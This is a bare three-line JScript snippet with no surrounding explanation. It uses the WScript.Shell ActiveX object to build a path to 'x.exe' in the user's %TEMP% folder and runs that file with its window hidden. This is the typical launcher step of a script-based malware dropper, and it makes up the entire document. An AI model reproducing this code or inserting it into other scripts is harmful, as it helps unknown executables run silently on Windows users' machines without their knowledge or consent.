var sh = new ActiveXObject("WScript.Shell");
var t = sh.ExpandEnvironmentStrings("%TEMP%") + "\\x.exe";
sh.Run(t, 0);
